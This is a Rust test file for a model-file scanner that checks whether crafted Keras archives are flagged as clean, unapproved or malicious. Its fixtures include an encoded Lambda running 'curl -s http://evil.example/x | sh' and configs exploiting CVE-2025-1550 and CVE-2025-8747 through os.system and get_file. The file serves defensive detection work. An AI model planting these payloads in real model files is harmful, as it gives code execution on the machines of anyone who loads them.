//! `.keras` archives built in-test: config.json + metadata.json + weights.

use crate::models::ModelScanner;
use crate::models::tests::{call, state_dict, zip};
use crate::policy::Policy;
use aigis_findings::{FileReport, Verdict};
use base64::Engine;
use serde_json::{Value, json};

/// `codecs.encode(marshal.dumps((lambda x: x * 2.0 + 1.0).__code__), "base64")`
/// from CPython 3.11, as Keras' `func_dump` writes it.
const BENIGN_LAMBDA: &str = "4wEAAAAAAAAAAAAAAAIAAAADAAAA8xIAAACXAHwAZAF6BQAAZAJ6AAAAUwApA07nAAAAAAAAAEDn\nAAAAAAAA8D+pAKkB2gF4cwEAAAAg+gc8c3RkaW4++gg8bGFtYmRhPnIIAAAABQAAAHMOAAAAgACY\nAZhDmQegI5kNgADzAAAAAA==\n";

/// The same for `lambda x: __import__('os').system('curl -s http://evil.example/x | sh') or x`.
const EVIL_LAMBDA: &str = "4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACg\nAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3P6ImN1cmwg\nLXMgaHR0cDovL2V2aWwuZXhhbXBsZS94IHwgc2gpAtoKX19pbXBvcnRfX9oGc3lzdGVtqQHaAXhz\nAQAAACD6BzxzdGRpbj76CDxsYW1iZGE+cgkAAAAGAAAAcyMAAACAAJVqoBTRFibUFibXFi3SFi3Q\nLlLRFlPUFlPQFljQV1iAAPMAAAAA\n";

fn dense(name: &str) -> Value {
    json!({
        "module": "keras.layers", "class_name": "Dense", "registered_name": null,
        "config": {
            "name": name, "units": 4, "activation": "relu",
            "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                   "config": {"seed": null}, "registered_name": null},
            "dtype": {"module": "keras", "class_name": "DTypePolicy",
                      "config": {"name": "float32"}, "registered_name": null}
        },
        "build_config": {"input_shape": [null, 3]}
    })
}

fn model(layers: Vec<Value>) -> Vec<u8> {
    let config = json!({
        "module": "keras", "class_name": "Sequential", "registered_name": null,
        "config": {"name": "sequential", "trainable": true, "layers": layers},
        "compile_config": {
            "optimizer": {"module": "keras.optimizers", "class_name": "Adam",
                          "config": {"learning_rate": 0.001}, "registered_name": null},
            "loss": {"module": "keras.losses", "class_name": "MeanSquaredError",
                     "config": {"name": "mse"}, "registered_name": null},
            "metrics": [{"module": "keras.metrics", "class_name": "function",
                         "config": "mean_absolute_error", "registered_name": "function"}]
        }
    });
    let config = serde_json::to_vec(&config).unwrap();
    zip(&[
        (
            "metadata.json",
            br#"{"keras_version": "3.6.0", "date_saved": "2026-01-01@00:00:00"}"#,
        ),
        ("config.json", &config),
        (
            "model.weights.h5",
            include_bytes!("../../../../formats/tests/data/hdf5/empty.h5"),
        ),
    ])
}

fn lambda(code: &str) -> Value {
    json!({
        "module": "keras.layers", "class_name": "Lambda", "registered_name": null,
        "config": {
            "name": "lambda", "trainable": true,
            "function": {"class_name": "__lambda__",
                         "config": {"code": code, "defaults": null, "closure": null}},
            "arguments": {}
        }
    })
}

fn scan(data: &[u8]) -> FileReport {
    let policy = Policy::new(&[]).unwrap();
    let o = ModelScanner::new(&policy).scan(data, "m.keras").unwrap();
    FileReport::new("m.keras", o.format, o.findings)
}

fn rules(r: &FileReport) -> Vec<&str> {
    r.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

#[test]
fn plain_keras_model_is_clean() {
    let r = scan(&model(vec![dense("d1"), dense("d2")]));
    assert_eq!(r.format, "keras");
    assert_eq!(r.verdict, Verdict::Clean, "{r:#?}");
    assert!(r.findings.is_empty(), "{r:#?}");
}

#[test]
fn lambda_bytecode_is_decoded_and_judged() {
    let r = scan(&model(vec![dense("d1"), lambda(BENIGN_LAMBDA)]));
    assert_eq!(r.verdict, Verdict::Unapproved, "{r:#?}");
    assert_eq!(rules(&r), ["AIG161"], "{r:#?}");
    let r = scan(&model(vec![lambda(EVIL_LAMBDA)]));
    assert_eq!(r.verdict, Verdict::Malicious, "{r:#?}");
    let f = r.findings.iter().find(|f| f.rule_id == "AIG162").unwrap();
    assert!(
        f.message.contains("__import__") && f.message.contains("system"),
        "{f:#?}"
    );
    let ev = f.evidence.as_deref().unwrap_or("");
    assert!(ev.contains("curl -s http://evil.example/x | sh"), "{ev}");
    assert!(
        ev.contains("config.config.layers[0].config.function"),
        "{ev}"
    );
}

#[test]
fn legacy_tf_keras_lambda_and_undecodable_bytecode() {
    let legacy = json!({"class_name": "Lambda", "config": {
        "name": "l", "function": [EVIL_LAMBDA, null, null], "function_type": "lambda"}});
    let r = scan(&model(vec![legacy]));
    assert!(rules(&r).contains(&"AIG162"), "{r:#?}");
    let r = scan(&model(vec![lambda("bm90IGJ5dGVjb2Rl")]));
    assert_eq!(r.verdict, Verdict::Inconclusive, "{r:#?}");
    assert!(rules(&r).contains(&"AIG161"), "{r:#?}");
}

#[test]
fn modules_outside_keras_are_custom_code_or_gadgets() {
    let custom = json!({"module": "my_lab.layers", "class_name": "Adapter",
                        "config": {"name": "a"}, "registered_name": "my_lab>Adapter"});
    let r = scan(&model(vec![custom]));
    assert_eq!(r.verdict, Verdict::Unapproved, "{r:#?}");
    assert_eq!(rules(&r), ["AIG160"]);
    // CVE-2025-1550: a function object naming os.system.
    let gadget = json!({"module": "keras.layers", "class_name": "Dense", "config": {
        "name": "d", "units": 1,
        "activation": {"module": "os", "class_name": "function", "config": "system",
                       "registered_name": "function"}}});
    let r = scan(&model(vec![gadget]));
    assert_eq!(r.verdict, Verdict::Malicious, "{r:#?}");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule_id == "AIG163" && f.message.contains("os.system"))
    );
    // CVE-2025-8747: keras.utils.get_file reached through the config.
    let get_file = json!({"module": "keras.utils", "class_name": "function", "config": "get_file",
                          "registered_name": "function"});
    let r = scan(&model(vec![get_file]));
    assert_eq!(r.verdict, Verdict::Malicious, "{r:#?}");
    // Trusting a custom class by name makes it clean.
    let policy = Policy::new(&["my_lab.layers.Adapter".into()]).unwrap();
    let custom = json!({"module": "my_lab.layers", "class_name": "Adapter", "config": {}});
    let o = ModelScanner::new(&policy)
        .scan(&model(vec![custom]), "m")
        .unwrap();
    assert!(o.findings.is_empty(), "{:#?}", o.findings);
}

#[test]
fn torch_module_wrapper_payload_is_scanned() {
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let wrapper = |payload: &[u8]| {
        json!({"module": "keras.layers", "class_name": "TorchModuleWrapper",
               "config": {"name": "torch_module_wrapper", "module": b64(payload)}})
    };
    let r = scan(&model(vec![wrapper(&call("os", "system", "id"))]));
    assert_eq!(r.verdict, Verdict::Malicious, "{r:#?}");
    assert!(rules(&r).contains(&"AIG164") && rules(&r).contains(&"AIG101"));
    let r = scan(&model(vec![wrapper(&state_dict())]));
    assert_eq!(r.verdict, Verdict::Unapproved, "{r:#?}");
}

#[test]
fn code_members_and_broken_configs() {
    let config = br#"{"module": "keras", "class_name": "Sequential", "config": {"layers": []}}"#;
    let z = zip(&[
        ("metadata.json", b"{}"),
        ("config.json", config),
        ("assets/run.py", b"import os\n"),
        ("assets/tool", b"\x7fELF\x02\x01\x01"),
    ]);
    let r = scan(&z);
    let code: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.rule_id == "AIG165")
        .collect();
    assert_eq!(code.len(), 2, "{r:#?}");
    let z = zip(&[("metadata.json", b"{}"), ("config.json", b"{\"layers\": [")]);
    let r = scan(&z);
    assert_eq!(r.verdict, Verdict::Inconclusive, "{r:#?}");
}

#[test]
fn inspect_lists_objects_and_decoded_lambdas() {
    let policy = Policy::new(&[]).unwrap();
    let ins =
        ModelScanner::new(&policy).inspect(&model(vec![dense("d1"), lambda(EVIL_LAMBDA)]), "m");
    assert_eq!(ins.format, "keras");
    let k = &ins.keras[0];
    assert!(k.objects.iter().any(|o| o.class_name == "Dense"
        && o.name == "d1"
        && o.module.as_deref() == Some("keras.layers")));
    let l = &k.lambdas[0];
    assert_eq!((l.layer.as_str(), l.code.as_str()), ("lambda", "<lambda>"));
    assert_eq!(l.names, ["__import__", "system"]);
    assert!(l.constants.iter().any(|c| c.contains("evil.example")));
}
